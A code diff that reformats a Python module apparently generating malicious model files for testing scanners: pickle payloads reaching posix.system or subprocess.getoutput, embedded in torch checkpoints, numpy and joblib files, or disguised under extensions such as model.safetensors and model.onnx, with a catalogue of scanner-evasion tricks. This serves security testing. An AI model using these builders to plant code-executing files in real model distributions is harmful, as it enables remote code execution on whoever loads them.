@@ -103,8 +103,12 @@ def legacy_sys_info_slot(f: Path, m: str) -> Path:
 
 def legacy_tar_storages(f: Path, m: str) -> Path:
     """The pre-1.0 tar layout: torch.load extracts 'storages' and unpickles it before anything else."""
-    members = {"sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2),
-               "storages": dumps(_payload(m), 2), "tensors": pickle.dumps(0, 2), "pickle": pickle.dumps({}, 2)}
+    members = {
+        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, 2),
+        "storages": dumps(_payload(m), 2),
+        "tensors": pickle.dumps(0, 2),
+        "pickle": pickle.dumps({}, 2),
+    }
     buffer = io.BytesIO()
     with tarfile.open(fileobj=buffer, mode="w:", format=tarfile.PAX_FORMAT) as tar:
         for name, data in members.items():
@@ -116,7 +120,10 @@ def legacy_tar_storages(f: Path, m: str) -> Path:
 
 def torch_zip_custom_folder(f: Path, m: str) -> Path:
     """torch takes the archive folder from the first entry, any name: here 'checkpoint_v2/', not 'archive/'."""
-    evil = [("checkpoint_v2/" + name.split("/", 1)[1], data) for name, data in _members(_torch_zip({"hook": _payload(m)}))]
+    evil = [
+        ("checkpoint_v2/" + name.split("/", 1)[1], data)
+        for name, data in _members(_torch_zip({"hook": _payload(m)}))
+    ]
     return put(f, "pytorch_model.bin", _zip(evil))
 
 
@@ -126,7 +133,7 @@ def torch_zip_duplicate_data_pkl(f: Path, m: str) -> Path:
     members = _members(_torch_zip({"w": torch.ones(2)}))
     prefix = members[0][0].split("/", 1)[0]
     evil = dict(_members(_torch_zip({"hook": _payload(m)})))[f"{prefix}/data.pkl"]
-    order = members + [(f"{prefix}/data.pkl", evil)]  # the genuine data.pkl first, the payload later
+    order = [*members, (f"{prefix}/data.pkl", evil)]  # the genuine data.pkl first, the payload later
     with_dupes = io.BytesIO()
     with zipfile.ZipFile(with_dupes, "w") as archive, __import__("warnings").catch_warnings():
         __import__("warnings").simplefilter("ignore")
@@ -178,7 +185,9 @@ def _joblib(f: Path, m: str, method: str, name: str) -> Path:
 
 def pickle_leading_noops(f: Path, m: str) -> Path:
     """No PROTO: starts with NONE/POP, MARK/POP_MARK and an INT, then a text GLOBAL."""
-    return put(f, "model.pkl", b"N0(I7\n1I01\n0" + glob("posix", "system") + b"(V" + shell(m).encode() + b"\ntR.")
+    return put(
+        f, "model.pkl", b"N0(I7\n1I01\n0" + glob("posix", "system") + b"(V" + shell(m).encode() + b"\ntR."
+    )
 
 
 def pickle_midstream_proto(f: Path, m: str) -> Path:
@@ -260,74 +269,295 @@ def _ref(path: str) -> str:
 
 SPECS: list[Spec] = [
     # class 3
-    Spec("pickle-zip-polyglot", 3, "payload pickle at byte 0 plus a whole torch zip after it; torch.load takes the legacy path",
-         _ref("torch/serialization.py:_is_zipfile/_legacy_load"), "torch", pickle_zip_polyglot),
-    Spec("legacy-magic-slot", 3, "legacy torch file whose magic-number pickle runs the payload and still yields the magic",
-         _ref("torch/serialization.py:_legacy_load (magic_number = pickle_module.load)"), "torch", legacy_magic_slot),
-    Spec("legacy-sys-info-slot", 3, "legacy torch file whose sys_info pickle runs the payload and returns the real sys_info",
-         _ref("torch/serialization.py:_legacy_load (sys_info)"), "torch", legacy_sys_info_slot),
-    Spec("legacy-tar-storages", 3, "pre-1.0 tar checkpoint: the 'storages' member is unpickled first",
-         _ref("torch/serialization.py:_legacy_load.legacy_load"), "torch", legacy_tar_storages),
-    Spec("torch-zip-custom-folder", 3, "torch reads records under the first entry's folder, whatever its name ('checkpoint_v2/')",
-         _ref("caffe2/serialize/inline_container.cc:PyTorchStreamReader::init (archive_name_)"), "torch",
-         torch_zip_custom_folder),
-    Spec("torch-zip-duplicate-data-pkl", 3, "two data.pkl entries, the payload second: torch (miniz) and zipfile both read the last",
-         "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-7q5r-7gvp-wc82", "torch",
-         torch_zip_duplicate_data_pkl),
-    Spec("torch-zip-deflated", 3, "torch zip re-packed with DEFLATE members; miniz inflates data.pkl",
-         _ref("caffe2/serialize/inline_container.cc:getRecord (mz_zip_reader_extract)"), "torch", torch_zip_deflated),
-    Spec("npy-v3-header-object", 3, "hand-written .npy version 3.0 (utf8 header), descr 'O' without byte-order char",
-         _ref("numpy/lib/format.py:_read_array_header/read_array"), "numpy", npy_v3_header_object),
-    Spec("npy-structured-object-field", 3, "structured dtype with one object field: hasobject makes numpy unpickle",
-         _ref("numpy/lib/format.py:read_array (dtype.hasobject)"), "numpy", npy_structured_object_field),
-    Spec("npz-compressed-object", 3, "savez_compressed: the object array member is deflated inside the npz",
-         _ref("numpy/lib/_npyio_impl.py:NpzFile.__getitem__"), "numpy", npz_compressed_object),
-    Spec("joblib-gzip", 3, "joblib.dump(compress=('gzip', 3))", _ref("joblib/compressor.py:GzipCompressorWrapper"),
-         "joblib", lambda f, m: _joblib(f, m, "gzip", "model.joblib")),
-    Spec("joblib-lzma", 3, "joblib.dump(compress=('lzma', 3))", _ref("joblib/compressor.py:LZMACompressorWrapper"),
-         "joblib", lambda f, m: _joblib(f, m, "lzma", "model.joblib")),
-    Spec("joblib-xz", 3, "joblib.dump(compress=('xz', 3))", _ref("joblib/compressor.py:XZCompressorWrapper"),
-         "joblib", lambda f, m: _joblib(f, m, "xz", "model.joblib")),
-    Spec("joblib-lz4", 3, "joblib.dump(compress=('lz4', 3))", _ref("joblib/compressor.py:LZ4CompressorWrapper"),
-         "joblib", lambda f, m: _joblib(f, m, "lz4", "model.joblib")),
-    Spec("joblib-bz2-named-pkl", 3, "joblib bz2 stream named .pkl (magic BZh, not a pickle header)",
-         _ref("joblib/numpy_pickle_utils.py:_detect_compressor"), "joblib", lambda f, m: _joblib(f, m, "bz2", "model.pkl")),
-    Spec("pickle-leading-noops", 3, "pickle that opens with NONE/POP, MARK/POP_MARK and INT '01' before a protocol-0 GLOBAL",
-         _ref("pickle.py:_Unpickler.load_int/load_pop_mark"), "pickle", pickle_leading_noops),
-    Spec("pickle-midstream-proto", 3, "a second PROTO opcode mid-stream switches to protocol 4 before STACK_GLOBAL",
-         _ref("pickle.py:_Unpickler.load_proto"), "pickle", pickle_midstream_proto),
-    Spec("int-text-forms", 3, "extension code as INT text '0x1f3' (int(x, 0)) for EXT2; PUT/GET keys '0_1' and '+1'",
-         _ref("pickle.py:load_int/load_put/load_get + copyreg.add_extension"), "pickle", int_text_forms),
-    Spec("long-octal-extension", 3, "extension code as LONG text '0o1762L' for EXT2 to reach subprocess.getoutput",
-         _ref("pickle.py:load_long/load_ext2"), "pickle", long_octal_extension),
+    Spec(
+        "pickle-zip-polyglot",
+        3,
+        "payload pickle at byte 0 plus a whole torch zip after it; torch.load takes the legacy path",
+        _ref("torch/serialization.py:_is_zipfile/_legacy_load"),
+        "torch",
+        pickle_zip_polyglot,
+    ),
+    Spec(
+        "legacy-magic-slot",
+        3,
+        "legacy torch file whose magic-number pickle runs the payload and still yields the magic",
+        _ref("torch/serialization.py:_legacy_load (magic_number = pickle_module.load)"),
+        "torch",
+        legacy_magic_slot,
+    ),
+    Spec(
+        "legacy-sys-info-slot",
+        3,
+        "legacy torch file whose sys_info pickle runs the payload and returns the real sys_info",
+        _ref("torch/serialization.py:_legacy_load (sys_info)"),
+        "torch",
+        legacy_sys_info_slot,
+    ),
+    Spec(
+        "legacy-tar-storages",
+        3,
+        "pre-1.0 tar checkpoint: the 'storages' member is unpickled first",
+        _ref("torch/serialization.py:_legacy_load.legacy_load"),
+        "torch",
+        legacy_tar_storages,
+    ),
+    Spec(
+        "torch-zip-custom-folder",
+        3,
+        "torch reads records under the first entry's folder, whatever its name ('checkpoint_v2/')",
+        _ref("caffe2/serialize/inline_container.cc:PyTorchStreamReader::init (archive_name_)"),
+        "torch",
+        torch_zip_custom_folder,
+    ),
+    Spec(
+        "torch-zip-duplicate-data-pkl",
+        3,
+        "two data.pkl entries, the payload second: torch (miniz) and zipfile both read the last",
+        "https://github.com/mmaitre314/picklescan/security/advisories/GHSA-7q5r-7gvp-wc82",
+        "torch",
+        torch_zip_duplicate_data_pkl,
+    ),
+    Spec(
+        "torch-zip-deflated",
+        3,
+        "torch zip re-packed with DEFLATE members; miniz inflates data.pkl",
+        _ref("caffe2/serialize/inline_container.cc:getRecord (mz_zip_reader_extract)"),
+        "torch",
+        torch_zip_deflated,
+    ),
+    Spec(
+        "npy-v3-header-object",
+        3,
+        "hand-written .npy version 3.0 (utf8 header), descr 'O' without byte-order char",
+        _ref("numpy/lib/format.py:_read_array_header/read_array"),
+        "numpy",
+        npy_v3_header_object,
+    ),
+    Spec(
+        "npy-structured-object-field",
+        3,
+        "structured dtype with one object field: hasobject makes numpy unpickle",
+        _ref("numpy/lib/format.py:read_array (dtype.hasobject)"),
+        "numpy",
+        npy_structured_object_field,
+    ),
+    Spec(
+        "npz-compressed-object",
+        3,
+        "savez_compressed: the object array member is deflated inside the npz",
+        _ref("numpy/lib/_npyio_impl.py:NpzFile.__getitem__"),
+        "numpy",
+        npz_compressed_object,
+    ),
+    Spec(
+        "joblib-gzip",
+        3,
+        "joblib.dump(compress=('gzip', 3))",
+        _ref("joblib/compressor.py:GzipCompressorWrapper"),
+        "joblib",
+        lambda f, m: _joblib(f, m, "gzip", "model.joblib"),
+    ),
+    Spec(
+        "joblib-lzma",
+        3,
+        "joblib.dump(compress=('lzma', 3))",
+        _ref("joblib/compressor.py:LZMACompressorWrapper"),
+        "joblib",
+        lambda f, m: _joblib(f, m, "lzma", "model.joblib"),
+    ),
+    Spec(
+        "joblib-xz",
+        3,
+        "joblib.dump(compress=('xz', 3))",
+        _ref("joblib/compressor.py:XZCompressorWrapper"),
+        "joblib",
+        lambda f, m: _joblib(f, m, "xz", "model.joblib"),
+    ),
+    Spec(
+        "joblib-lz4",
+        3,
+        "joblib.dump(compress=('lz4', 3))",
+        _ref("joblib/compressor.py:LZ4CompressorWrapper"),
+        "joblib",
+        lambda f, m: _joblib(f, m, "lz4", "model.joblib"),
+    ),
+    Spec(
+        "joblib-bz2-named-pkl",
+        3,
+        "joblib bz2 stream named .pkl (magic BZh, not a pickle header)",
+        _ref("joblib/numpy_pickle_utils.py:_detect_compressor"),
+        "joblib",
+        lambda f, m: _joblib(f, m, "bz2", "model.pkl"),
+    ),
+    Spec(
+        "pickle-leading-noops",
+        3,
+        "pickle that opens with NONE/POP, MARK/POP_MARK and INT '01' before a protocol-0 GLOBAL",
+        _ref("pickle.py:_Unpickler.load_int/load_pop_mark"),
+        "pickle",
+        pickle_leading_noops,
+    ),
+    Spec(
+        "pickle-midstream-proto",
+        3,
+        "a second PROTO opcode mid-stream switches to protocol 4 before STACK_GLOBAL",
+        _ref("pickle.py:_Unpickler.load_proto"),
+        "pickle",
+        pickle_midstream_proto,
+    ),
+    Spec(
+        "int-text-forms",
+        3,
+        "extension code as INT text '0x1f3' (int(x, 0)) for EXT2; PUT/GET keys '0_1' and '+1'",
+        _ref("pickle.py:load_int/load_put/load_get + copyreg.add_extension"),
+        "pickle",
+        int_text_forms,
+    ),
+    Spec(
+        "long-octal-extension",
+        3,
+        "extension code as LONG text '0o1762L' for EXT2 to reach subprocess.getoutput",
+        _ref("pickle.py:load_long/load_ext2"),
+        "pickle",
+        long_octal_extension,
+    ),
     # class 6
-    Spec("pickle-named-safetensors", 6, "a pickle named model.safetensors (torch.load routes *.safetensors to safe_open; "
-         "pickle.load/joblib.load do not look at the name)", MODELSCAN_263, "pickle", _named_pickle("model.safetensors")),
-    Spec("pickle-named-onnx", 6, "a pickle named model.onnx", MODELSCAN_263, "pickle", _named_pickle("model.onnx")),
-    Spec("pickle-named-gguf", 6, "a pickle named model.gguf", MODELSCAN_263, "pickle", _named_pickle("model.gguf")),
-    Spec("pickle-named-npy", 6, "a raw pickle named .npy: numpy.load(allow_pickle=True) falls back to pickle.load",
-         _ref("numpy/lib/_npyio_impl.py:load (pickle fallback)"), "numpy", _named_pickle("features.npy")),
-    Spec("legacy-named-h5", 6, "a legacy torch.save file named tf_model.h5", MODELSCAN_263, "torch", legacy_named_h5),
-    Spec("torch-zip-named-msgpack", 6, "a torch zip checkpoint named flax_model.msgpack",
-         MODELSCAN_263, "torch", torch_zip_named_msgpack),
-    Spec("joblib-named-onnx", 6, "a zlib joblib dump named model.onnx", MODELSCAN_263, "joblib", joblib_named_onnx),
-    Spec("npz-named-bin", 6, "an npz (zip of .npy, one object array) named pytorch_model.bin",
-         _ref("numpy/lib/_npyio_impl.py:load (zip magic)"), "numpy", npz_named_bin),
-    Spec("empty-model-safetensors", 6, "an empty file named model.safetensors (no payload: the claim is false)",
-         "loader study: safetensors header (8-byte length) absent", "none", empty_model),
-    Spec("unidentified-binary-onnx", 6, "4 KiB of unidentified bytes named model.onnx (no payload: the claim is false)",
-         "loader study: onnx.load protobuf parse fails", "none", unidentified_binary),
+    Spec(
+        "pickle-named-safetensors",
+        6,
+        "a pickle named model.safetensors (torch.load routes *.safetensors to safe_open; "
+        "pickle.load/joblib.load do not look at the name)",
+        MODELSCAN_263,
+        "pickle",
+        _named_pickle("model.safetensors"),
+    ),
+    Spec(
+        "pickle-named-onnx",
+        6,
+        "a pickle named model.onnx",
+        MODELSCAN_263,
+        "pickle",
+        _named_pickle("model.onnx"),
+    ),
+    Spec(
+        "pickle-named-gguf",
+        6,
+        "a pickle named model.gguf",
+        MODELSCAN_263,
+        "pickle",
+        _named_pickle("model.gguf"),
+    ),
+    Spec(
+        "pickle-named-npy",
+        6,
+        "a raw pickle named .npy: numpy.load(allow_pickle=True) falls back to pickle.load",
+        _ref("numpy/lib/_npyio_impl.py:load (pickle fallback)"),
+        "numpy",
+        _named_pickle("features.npy"),
+    ),
+    Spec(
+        "legacy-named-h5",
+        6,
+        "a legacy torch.save file named tf_model.h5",
+        MODELSCAN_263,
+        "torch",
+        legacy_named_h5,
+    ),
+    Spec(
+        "torch-zip-named-msgpack",
+        6,
+        "a torch zip checkpoint named flax_model.msgpack",
+        MODELSCAN_263,
+        "torch",
+        torch_zip_named_msgpack,
+    ),
+    Spec(
+        "joblib-named-onnx",
+        6,
+        "a zlib joblib dump named model.onnx",
+        MODELSCAN_263,
+        "joblib",
+        joblib_named_onnx,
+    ),
+    Spec(
+        "npz-named-bin",
+        6,
+        "an npz (zip of .npy, one object array) named pytorch_model.bin",
+        _ref("numpy/lib/_npyio_impl.py:load (zip magic)"),
+        "numpy",
+        npz_named_bin,
+    ),
+    Spec(
+        "empty-model-safetensors",
+        6,
+        "an empty file named model.safetensors (no payload: the claim is false)",
+        "loader study: safetensors header (8-byte length) absent",
+        "none",
+        empty_model,
+    ),
+    Spec(
+        "unidentified-binary-onnx",
+        6,
+        "4 KiB of unidentified bytes named model.onnx (no payload: the claim is false)",
+        "loader study: onnx.load protobuf parse fails",
+        "none",
+        unidentified_binary,
+    ),
     # class 7
-    Spec("joblib-named-sav", 7, "scikit-learn's customary .sav extension on a joblib dump", PICKLESCAN_EXTENSIONS,
-         "joblib", lambda f, m: _joblib(f, m, "zlib", "classifier.sav")),
-    Spec("pickle-named-p", 7, "a pickle with the .p extension", PICKLESCAN_EXTENSIONS, "pickle", _named_pickle("model.p")),
-    Spec("pickle-uppercase-pkl", 7, "a pickle named MODEL.PKL (upper case extension)", PICKLESCAN_EXTENSIONS,
-         "pickle", _named_pickle("MODEL.PKL")),
-    Spec("torch-zip-pth-tar", 7, "a torch zip named checkpoint.pth.tar (the common training-script name)",
-         PICKLESCAN_EXTENSIONS, "torch", torch_zip_named("checkpoint.pth.tar")),
-    Spec("legacy-no-extension", 7, "a legacy torch file with no extension at all",
-         PICKLESCAN_EXTENSIONS, "torch", legacy_named("weights")),
-    Spec("pickle-named-mdl", 7, "a pickle named model.mdl", PICKLESCAN_EXTENSIONS, "pickle", _named_pickle("model.mdl")),
-    Spec("torch-zip-bin-backup", 7, "a torch zip named pytorch_model.bin.bak", PICKLESCAN_EXTENSIONS,
-         "torch", torch_zip_named("pytorch_model.bin.bak")),
+    Spec(
+        "joblib-named-sav",
+        7,
+        "scikit-learn's customary .sav extension on a joblib dump",
+        PICKLESCAN_EXTENSIONS,
+        "joblib",
+        lambda f, m: _joblib(f, m, "zlib", "classifier.sav"),
+    ),
+    Spec(
+        "pickle-named-p",
+        7,
+        "a pickle with the .p extension",
+        PICKLESCAN_EXTENSIONS,
+        "pickle",
+        _named_pickle("model.p"),
+    ),
+    Spec(
+        "pickle-uppercase-pkl",
+        7,
+        "a pickle named MODEL.PKL (upper case extension)",
+        PICKLESCAN_EXTENSIONS,
+        "pickle",
+        _named_pickle("MODEL.PKL"),
+    ),
+    Spec(
+        "torch-zip-pth-tar",
+        7,
+        "a torch zip named checkpoint.pth.tar (the common training-script name)",
+        PICKLESCAN_EXTENSIONS,
+        "torch",
+        torch_zip_named("checkpoint.pth.tar"),
+    ),
+    Spec(
+        "legacy-no-extension",
+        7,
+        "a legacy torch file with no extension at all",
+        PICKLESCAN_EXTENSIONS,
+        "torch",
+        legacy_named("weights"),
+    ),
+    Spec(
+        "pickle-named-mdl",
+        7,
+        "a pickle named model.mdl",
+        PICKLESCAN_EXTENSIONS,
+        "pickle",
+        _named_pickle("model.mdl"),
+    ),
+    Spec(
+        "torch-zip-bin-backup",
+        7,
+        "a torch zip named pytorch_model.bin.bak",
+        PICKLESCAN_EXTENSIONS,
+        "torch",
+        torch_zip_named("pytorch_model.bin.bak"),
+    ),
 ]
